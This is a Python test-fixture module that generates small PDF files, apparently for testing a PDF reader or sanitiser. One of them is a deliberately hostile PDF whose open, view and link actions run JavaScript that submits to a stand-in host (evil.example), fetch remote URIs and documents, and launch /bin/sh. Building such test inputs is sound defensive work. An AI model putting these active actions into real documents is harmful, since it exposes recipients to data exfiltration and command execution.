"""PDF files for tests, also hostile ones."""

ENCRYPTED = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%b> /U <%b> >> /ID [<00> <00>]" % (
    b"00" * 32,
    b"11" * 32,
)
ACTIONS = (
    b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example/')) >>",
    b"<< /S /URI /URI (http://evil.example/) >>",
    b"<< /S /Launch /F (/bin/sh) >>",
    b"<< /S /SubmitForm /F (http://evil.example/) >>",
    b"<< /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >>",
)


def pdf(*texts: str, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """Return a PDF with a page for each of `texts`, in ASCII.
    The others add to its dictionaries.
    """
    count = len(texts)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        b"<< /Type /Pages /Count %d /Kids [%b] >>" % (count, kids),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for number, text in enumerate(texts):
        content = b"BT /F1 24 Tf 50 780 Td (%b) Tj ET" % text.encode()
        objects += [
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> %b >>" % (5 + 2 * number, page),
            b"<< /Length %d >> stream\n%b\nendstream" % (len(content), content),
        ]
    made, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        made
        + b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table)
        + b"trailer << /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, trailer, len(made))
    )


def hostile() -> bytes:
    """Return a PDF that does all it can when it is opened, shown or clicked."""
    links = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %b >>" % action
        for action in ACTIONS
    )
    return pdf(
        "Hostile",
        catalog=b"/OpenAction %b /Names << /JavaScript << /Names [(a) %b] >> >>"
        % (ACTIONS[0], ACTIONS[0]),
        page=b"/Annots [%b] /AA << /O %b >>" % (links, ACTIONS[0]),
    )
